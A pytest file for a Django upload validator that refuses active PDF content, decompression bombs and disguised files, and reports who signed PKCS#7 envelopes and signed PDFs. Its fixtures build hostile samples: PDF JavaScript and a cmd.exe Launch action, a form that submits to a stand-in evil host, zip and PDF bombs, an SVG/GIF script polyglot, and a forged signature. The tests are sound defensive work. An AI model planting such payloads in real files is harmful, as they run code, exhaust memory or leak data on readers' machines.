"""What a real parser finds in what people send: what runs, what is too much, who signed."""

import asyncio
import base64
import datetime as dt
import hashlib
import io
import json
import re
import struct
import subprocess
import sys
import zipfile
import zlib
from types import SimpleNamespace

import pikepdf
import pytest
from asn1crypto import cms, keys, x509
from cryptography import x509 as certificates
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.x509.oid import NameOID
from django.core.files.base import ContentFile
from django.template.loader import render_to_string
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import PdfSignatureMetadata, PdfTimeStamper, SimpleSigner, sign_pdf
from pyhanko.sign.fields import SigSeedSubFilter
from pyhanko.sign.signers.pdf_cms import PdfCMSSignedAttributes
from pyhanko.sign.timestamps import DummyTimeStamper
from pyhanko_certvalidator.registry import SimpleCertificateStore

from core.files.kinds import SIGNED_PAPERS
from core.files.looking import CHILD, look_into
from core.files.looking.child import answer_about
from core.files.models import StoredFile
from core.files.services import store_file
from core.files.serving import serve_inside
from core.kit.errors import InvalidError
from tests.factories.files import PDF, PNG, pdf

# Parsers know no database; that a file is stored is asked of both in test_files.py.
pytestmark = [pytest.mark.django_db, pytest.mark.once]


@pytest.fixture(params=["in its process", "here"], autouse=True)
def process(request, monkeypatch):
    """Ask everything twice: of the child as it runs, and of its parsers where lines are counted."""

    def look_here(command, **given):
        try:
            answer = answer_about(command[-1], given["input"])
        except Exception as error:
            raise subprocess.CalledProcessError(1, command) from error
        return SimpleNamespace(stdout=json.dumps(answer).encode())

    if request.param == "here":
        monkeypatch.setattr(subprocess, "run", look_here)
    return request.param


def store(content, name="letter.pdf"):
    upload = ContentFile(content, name=name)
    return store_file(upload=upload, by=None, kinds=SIGNED_PAPERS)


def refusal(content, name="letter.pdf"):
    with pytest.raises(InvalidError) as error:
        store(content, name)
    assert not StoredFile.objects.exists()
    return error.value


# What runs --------------------------------------------------------------------------
def action(**values):
    return pikepdf.Dictionary(Type=pikepdf.Name.Action, **values)


SCRIPT = {"S": pikepdf.Name.JavaScript, "JS": "app.alert(1)"}


def script_at_opening(document):
    document.Root.OpenAction = action(**SCRIPT)


def script_by_name(document):
    names = pikepdf.Array(["start", document.make_indirect(action(**SCRIPT))])
    document.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=names))


def programme_behind_a_link(document):
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=[0, 0, 10, 10],
        A=action(S=pikepdf.Name.Launch, F="cmd.exe"),
    )
    document.pages[0].Annots = pikepdf.Array([link])


def script_on_a_page(document):
    document.pages[0].AA = pikepdf.Dictionary(O=action(**SCRIPT))


def file_inside(document):
    document.attachments["list.txt"] = b"Hello"


def running_form(document):
    document.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=pikepdf.Array([]))


def sending_form(document):
    document.Root.OpenAction = action(S=pikepdf.Name.SubmitForm, F="https://evil.example")


@pytest.mark.parametrize(
    ("change", "what"),
    [
        (script_at_opening, "a script"),
        (script_by_name, "a script"),
        (script_on_a_page, "a script"),
        (programme_behind_a_link, "starts a programme"),
        (file_inside, "attached files"),
        (running_form, "a form that runs"),
        (sending_form, "a form that sends"),
    ],
)
@pytest.mark.parametrize("mode", ["disable", "generate"])
def test_what_runs_is_refused_with_how_to_save_without_it(change, what, mode):
    # Packed into a stream no search finds it.
    packed = getattr(pikepdf.ObjectStreamMode, mode)
    error = refusal(pdf(change, object_stream_mode=packed))
    assert error.code == "file_active"
    assert what in error.message
    assert "“Save as PDF”" in error.message


# What is too much -------------------------------------------------------------------
def png_of(width, height):
    """Return a small PNG whose header promises a huge picture."""

    def chunk(name, data):
        check = struct.pack("!I", zlib.crc32(name + data))
        return struct.pack("!I", len(data)) + name + data + check

    header = struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0)
    parts = [("IHDR", header), ("IDAT", zlib.compress(b"\0" * 1000)), ("IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunk(n.encode(), d) for n, d in parts)


def test_picture_is_refused_by_what_its_header_promises():
    assert refusal(png_of(50_000, 50_000)).code == "file_too_many_pixels"


def pdf_bomb():
    """Return a PDF of a few hundred kilobytes, a stream of which unpacks to 300 MB, twice."""
    packed = zlib.compress(zlib.compress(b"\0" * 300_000_000, 9), 9)

    def change(document):
        bomb = document.make_stream(packed)
        bomb.Filter = pikepdf.Array([pikepdf.Name.FlateDecode] * 2)
        bomb.Type, bomb.N, bomb.First = pikepdf.Name.ObjStm, 1, 4
        document.Root.Bomb = bomb

    return pdf(change)


def packed(**files):
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        for name, content in files.items():
            archive.writestr(name.replace("__", "/").replace("_", "."), content)
    return written.getvalue()


def locked_zip():
    content = bytearray(packed(a_txt="x"))
    # The flag of a password, in the first header and in the list of contents.
    content[6] |= 1
    content[content.rindex(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (packed(word__vbaProject_bin="x"), "holds macros"),
        (packed(xl__data="0" * 30_000_000), "unpacks to far more"),
        (packed(**{f"n{n}": "" for n in range(3000)}), "unpacks to far more"),
        (packed(inner_zip=packed(a="x")), "holds other files"),
        (packed(a_txt="x"), "not a PDF, PNG, JPEG or P7M file"),
        (locked_zip(), "asks for a password"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old kind, or one with a password"),
        (b"PK\x03\x04 cut off", "damaged"),
        (b"MZ" + b"\0" * 100, "not a PDF, PNG, JPEG or P7M file"),
        (b"<svg onload='alert(1)'>" + PDF, "not a PDF, PNG, JPEG or P7M file"),
        (b"GIF89a/*" + b"*/=1;alert(1)//" + PNG, "not a PDF, PNG, JPEG or P7M file"),
        (b"<html>", "not a PDF, PNG, JPEG or P7M file"),
    ],
)
def test_other_files_are_told_what_to_send_instead(content, words):
    error = refusal(content, "letter.pdf")
    assert words in error.message
    assert "PDF" in error.message or "Save it" in error.message


# Prints how many bytes at most a programme holds while it runs. Asked in a process between: a
# child begins with the size of who starts it.
WEIGH = """
import resource, subprocess, sys
subprocess.run(sys.argv[1:], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss * 1024)
"""


def most_memory(content, kind):
    looking = [sys.executable, "-I", str(CHILD), kind]
    command = [sys.executable, "-I", "-c", WEIGH, *looking]
    return int(subprocess.run(command, input=content, capture_output=True, check=True).stdout)


@pytest.mark.parametrize("process", ["in its process"], indirect=True)
@pytest.mark.parametrize(
    ("make", "kind", "problem"),
    [
        # Nothing unpacks what no page needs.
        (pdf_bomb, "pdf", ""),
        (lambda: png_of(50_000, 50_000), "image", "too_many_pixels"),
        (lambda: png_of(10_000, 9_999), "image", ""),
        (lambda: packed(xl__data="0" * 200_000_000), "office", "bomb"),
        (lambda: packed(**{f"n{n}": "" for n in range(60_000)}), "office", "bomb"),
        (lambda: b"(" * 10_000_000 + b"%%EOF", "pdf", "damaged"),
        (lambda: b"\x30\x80" * 5_000_000, "p7m", "damaged"),
    ],
    ids=["PDF", "picture", "large picture", "Office", "many entries", "brackets", "envelopes"],
)
def test_what_would_fill_the_memory_takes_little_of_it(make, kind, problem):
    content = make()
    assert len(content) < 11_000_000
    assert look_into(content, kind).problem == problem
    assert most_memory(content, kind) < 300 * 1024 * 1024


@pytest.mark.parametrize("kind", ["pdf", "image", "office", "p7m"])
@pytest.mark.parametrize("content", [b"", b"%%EOF", b"\x30\x80" + b"\xff" * 300, b"\0" * 100_000])
def test_rubbish_breaks_no_parser(kind, content):
    assert look_into(content, kind).problem == "damaged"


@pytest.mark.parametrize("process", ["in its process"], indirect=True)
def test_parser_that_never_ends_is_ended(monkeypatch):
    monkeypatch.setattr("core.files.looking.LONGEST", 0.01)
    assert look_into(PDF, "pdf").problem == "damaged"


# Who signed -------------------------------------------------------------------------
def named(organisation, person):
    return certificates.Name(
        [
            certificates.NameAttribute(NameOID.ORGANIZATION_NAME, organisation),
            certificates.NameAttribute(NameOID.COMMON_NAME, person),
        ]
    )


NOW = dt.datetime(2026, 11, 1, 9, tzinfo=dt.UTC)
KEYS = {
    "elliptic": lambda: ec.generate_private_key(ec.SECP256R1()),
    "RSA": lambda: rsa.generate_private_key(65537, 2048),
}


def signer(person="Božo Lasić", organisation="Općina Konavle", kind="elliptic", shown=None, **more):
    """Return who signs, with a certificate that an authority of the tests has given.

    `shown` is the certificate of somebody else, who never signed.
    """
    key = KEYS[kind]()
    authority = ec.generate_private_key(ec.SECP256R1())
    made = (
        certificates.CertificateBuilder()
        .subject_name(named(organisation, person))
        .issuer_name(named("Fina", "Fina RDC"))
        .public_key(key.public_key())
        .serial_number(certificates.random_serial_number())
        .not_valid_before(NOW)
        .not_valid_after(NOW + dt.timedelta(days=300))
        .sign(authority, hashes.SHA256())
    )
    private = key.private_bytes(
        serialization.Encoding.DER,
        serialization.PrivateFormat.PKCS8,
        serialization.NoEncryption(),
    )
    return SimpleSigner(
        signing_cert=shown or x509.Certificate.load(made.public_bytes(serialization.Encoding.DER)),
        signing_key=keys.PrivateKeyInfo.load(private),
        cert_registry=SimpleCertificateStore(),
        **more,
    )


def envelope(content, *people, by=None):
    """Return a PKCS #7 envelope around what somebody, or several people, have signed."""
    made = [
        asyncio.run(
            one.async_sign_general_data(
                content, "sha256", detached=False, signed_attr_settings=SIGNED_AT
            )
        )
        for one in (by or signer(), *people)
    ]
    first = made[0]["content"]
    for more in made[1:]:
        first["signer_infos"].append(more["content"]["signer_infos"][0])
        for certificate in more["content"]["certificates"]:
            first["certificates"].append(certificate)
    return cms.ContentInfo({"content_type": "signed_data", "content": first}).dump(force=True)


SIGNED_AT = PdfCMSSignedAttributes(signing_time=NOW)
SIGNER = {
    "name": "Božo Lasić",
    "organisation": "Općina Konavle",
    "issuer": "Fina",
    "at": "2026-11-01T09:00:00+00:00",
    "state": "whole",
}
MAYOR = {**SIGNER, "name": "Ana Kovač", "organisation": "Grad Zadar"}


def as_text(content):
    lines = base64.encodebytes(content)
    return b"-----BEGIN PKCS7-----\n" + lines + b"-----END PKCS7-----\n"


@pytest.mark.parametrize("written", [bytes, as_text, base64.encodebytes])
def test_envelope_says_who_signed_and_hands_out_what_it_holds(written):
    stored = store(written(envelope(PDF)), "letter.pdf.p7m")
    assert (stored.kind, stored.name) == ("application/pkcs7-mime", "letter.p7m")
    assert stored.signatures == [SIGNER]
    answer = serve_inside(stored)
    assert answer.content == PDF
    assert answer["Content-Type"] == "application/pdf"
    assert 'filename="letter.pdf"' in answer["Content-Disposition"]


def test_envelope_of_several_people_names_each():
    mayor = signer("Ana Kovač", "Grad Zadar", kind="RSA")
    assert store(envelope(PDF, mayor)).signatures == [SIGNER, MAYOR]


def test_envelope_in_an_envelope_names_the_inner_signer_first_and_hands_out_the_pdf():
    outer = envelope(envelope(PDF), by=signer("Ana Kovač", "Grad Zadar"))
    stored = store(outer, "letter.pdf.p7m.p7m")
    assert stored.signatures == [SIGNER, MAYOR]
    assert serve_inside(stored).content == PDF


def test_envelopes_have_an_end():
    content = PDF
    for _depth in range(4):
        content = envelope(content)
    assert refusal(content).code == "file_nested"


def test_envelope_whose_content_was_changed_says_so():
    changed = envelope(PDF).replace(PDF[:20], PDF[:20].replace(b"1.", b"2."))
    [found] = store(changed).signatures
    assert found["state"] == "changed"


def test_envelope_that_somebody_else_signed_in_a_name_says_so():
    """The certificate of a mayor is public: whoever has it can put it beside a key of his own."""
    cheat = signer("Somebody", shown=signer().signing_cert)
    assert store(envelope(PDF, by=cheat)).signatures == [{**SIGNER, "state": "forged"}]


def test_envelope_whose_signature_cannot_be_read_is_taken_and_says_so():
    made = cms.ContentInfo.load(envelope(PDF))
    made["content"]["certificates"] = []
    [found] = store(made.dump(force=True)).signatures
    assert (found["name"], found["state"]) == ("", "unreadable")


@pytest.mark.parametrize(
    ("make", "code"),
    [
        (lambda: envelope(b"just words"), "file_not_a_pdf"),
        (lambda: envelope(pdf(script_at_opening)), "file_active"),
        (lambda: envelope(PDF[:-100]), "file_damaged"),
        (
            lambda: asyncio.run(
                signer().async_sign_general_data(PDF, "sha256", detached=True)
            ).dump(),
            "file_not_a_pdf",
        ),
    ],
    ids=["words", "a script", "cut off", "nothing"],
)
def test_what_is_inside_an_envelope_is_looked_at_all_the_same(make, code):
    assert refusal(make()).code == code


def signed(content, by=None, field="One", **more):
    """Return a PDF with one more signature, as a programme for signing makes it."""
    written = io.BytesIO()
    about = PdfSignatureMetadata(field_name=field, md_algorithm="sha256", **more)
    writer = IncrementalPdfFileWriter(io.BytesIO(content))
    sign_pdf(writer, about, signer=by or signer(), output=written)
    return written.getvalue()


def states_of(content):
    return [(one["name"], one["state"]) for one in store(content).signatures]


@pytest.mark.parametrize("kind", KEYS)
@pytest.mark.parametrize("form", ["ADOBE_PKCS7_DETACHED", "PADES"])
def test_signed_pdf_says_who_signed(kind, form):
    subfilter = SigSeedSubFilter[form]
    [found] = store(signed(PDF, signer(kind=kind), subfilter=subfilter)).signatures
    assert {**found, "at": ""} == {**SIGNER, "at": ""}


def test_pdf_signed_with_the_newer_kind_of_rsa_says_who_signed():
    assert states_of(signed(PDF, signer(kind="RSA", prefer_pss=True))) == [("Božo Lasić", "whole")]


def stamped(content):
    """Return a PDF with a stamp of the time alone, as an archive puts one on."""
    authority = signer(kind="RSA")
    stamper = DummyTimeStamper(authority.signing_cert, authority.signing_key)
    written = PdfTimeStamper(stamper).timestamp_pdf(
        IncrementalPdfFileWriter(io.BytesIO(content)), md_algorithm="sha256"
    )
    return written.getvalue()


def test_stamp_of_the_time_is_nobodys_signature():
    assert states_of(stamped(PDF)) == []


def test_first_of_two_signatures_is_not_taken_for_changed():
    twice = signed(signed(PDF), signer("Ana Kovač", "Grad Zadar"), field="Two")
    assert states_of(twice) == [("Božo Lasić", "added"), ("Ana Kovač", "whole")]


def rewritten(content, change):
    """Add a later version to a PDF, as a programme that edits does."""
    writer = IncrementalPdfFileWriter(io.BytesIO(content))
    change(writer)
    written = io.BytesIO()
    writer.write(written)
    return written.getvalue()


def other_language(writer):
    writer.root["/Lang"] = generic.TextStringObject("hr")
    writer.update_root()


def proofs_for_later(writer):
    """Add what keeps a signature readable for long, as the trust services of the Union do."""
    writer.root["/DSS"] = writer.add_object(
        generic.DictionaryObject({generic.NameObject("/Type"): generic.NameObject("/DSS")})
    )
    writer.update_root()


def test_pdf_that_was_changed_after_the_signature_says_so():
    assert states_of(rewritten(signed(PDF), other_language)) == [("Božo Lasić", "changed")]


def test_what_keeps_a_signature_readable_is_no_change():
    assert states_of(rewritten(signed(PDF), proofs_for_later)) == [("Božo Lasić", "whole")]


def test_signed_pdf_with_bytes_after_its_end_says_so():
    assert states_of(signed(PDF) + b"% and a line\n") == [("Božo Lasić", "changed")]


def print_in(content):
    """Return the print of what was signed of a PDF, as its signature writes it."""
    found = re.search(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)", content)
    start, first, second, rest = map(int, found.groups())
    held = content[start : start + first] + content[second : second + rest]
    return hashlib.sha256(held).hexdigest().encode()


def test_pdf_that_was_changed_under_its_signature_says_so():
    assert states_of(signed(PDF).replace(b" 200 ", b" 201 ", 1)) == [("Božo Lasić", "changed")]


def test_signature_that_was_made_to_fit_a_change_is_told_as_forged():
    """The print of the new bytes is put where the old one stood; only the key cannot be had."""
    content = signed(PDF)
    changed = content.replace(b" 200 ", b" 201 ", 1)
    assert changed != content
    old, new = print_in(content), print_in(changed)
    place = changed.lower().index(old)
    forged = changed[:place] + new + changed[place + len(old) :]
    assert states_of(forged) == [("Božo Lasić", "forged")]


@pytest.mark.parametrize("process", ["here"], indirect=True)
def test_signature_that_takes_too_long_is_told_as_unreadable(monkeypatch):
    def never_ends(*_given):
        while True:
            pass

    monkeypatch.setattr("core.files.looking.child._embedded", never_ends)
    monkeypatch.setattr("core.files.looking.child.PATIENCE", 0.05)
    assert states_of(signed(PDF)) == [("", "unreadable")]


def test_page_of_a_file_says_what_its_signatures_are_worth():
    states = ["whole", "added", "changed", "forged", "unreadable"]
    file = StoredFile(signatures=[{**SIGNER, "state": state} for state in states])
    words = render_to_string("components/file_signs.html", {"file": file})
    for part in (
        "It covers the whole document",
        "only further signatures or entries",
        "it was changed, or added to",
        "do not rely on it",
    ):
        assert words.count(part) == 1
    assert words.count("nobody has checked the certificate") == len(states) - 1
